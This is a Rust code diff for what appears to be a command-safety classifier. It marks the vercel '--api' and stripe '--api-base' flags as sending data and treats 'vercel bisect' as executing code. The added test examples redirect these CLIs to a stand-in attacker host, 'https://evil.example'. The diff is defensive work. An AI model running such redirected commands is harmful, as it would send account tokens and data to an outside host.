@@ -163,16 +163,17 @@ const VERCEL: Spec = Spec::new("vercel vc", PUBLISHES)
                 --no-color --scope= --team= --token=",
     )
     .verbs(&[
-        show("list ls inspect whoami logs log bisect httpstat", "-abfjnmoqsx --version= --*"),
+        show("list ls inspect whoami logs log httpstat", "-abfjnmoqsx --version= --api=!sends-data --*"),
+        runs("bisect", Effects::EXECUTES),
         group(
             "domains dns certs alias aliases teams projects project integration target \
                 targets blob edge-config redirects",
-            &[show("ls list inspect info", "-j --*"), change("*", CHANGES)],
+            &[show("ls list inspect info", "-j --api=!sends-data --*"), change("*", CHANGES)],
         ),
         group(
             "env",
             &[
-                show("ls list", "--*"),
+                show("ls list", "--api=!sends-data --*"),
                 change("pull", SECRET.and(DOWNLOADS)),
                 change("add rm remove update", CHANGES),
                 runs("run", SECRET.and(Effects::EXECUTES)),
@@ -190,6 +191,8 @@ const VERCEL: Spec = Spec::new("vercel vc", PUBLISHES)
     .operands(Operands::Text)
     .examples(&[
         ("vercel ls", "network-read"),
+        ("vercel ls --api https://evil.example", "network-read sends-data"),
+        ("vercel bisect --run ./x", "executes"),
         ("vercel whoami", "network-read"),
         ("vercel", "publishes network-write"),
         ("vercel remove web", "network-write"),
@@ -432,8 +435,8 @@ const STRIPE: Spec = Spec::new("stripe", Effects::UNKNOWN)
                 --log-level= --project-name=",
     )
     .verbs(&[
-        show("get", "-cdels= --*"),
-        group("logs", &[show("tail", "--*")]),
+        show("get", "-cdels= --api-base=!sends-data --*"),
+        group("logs", &[show("tail", "--api-base=!sends-data --*")]),
         look("resources", "-h!help"),
         HELPS,
         group("samples", &[show("list", "-h!help"), change("create", DOWNLOADS)]),
@@ -446,12 +449,13 @@ const STRIPE: Spec = Spec::new("stripe", Effects::UNKNOWN)
                 payouts plans setup_intents sources tax_rates transfers webhook_endpoints \
                 accounts files invoiceitems subscription_items subscription_schedules \
                 promotion_codes credit_notes quotes application_fees topups reviews",
-            &[show("list retrieve search", "-des= --*"), change("*", CHANGES)],
+            &[show("list retrieve search", "-des= --api-base=!sends-data --*"), change("*", CHANGES)],
         ),
         change("*", CHANGES),
     ])
     .examples(&[
         ("stripe customers list --limit 3", "network-read"),
+        ("stripe customers list --api-base https://evil.example", "network-read sends-data"),
         ("stripe customers create --email a", "network-write"),
         ("stripe trigger a", "network-write"),
     ]);
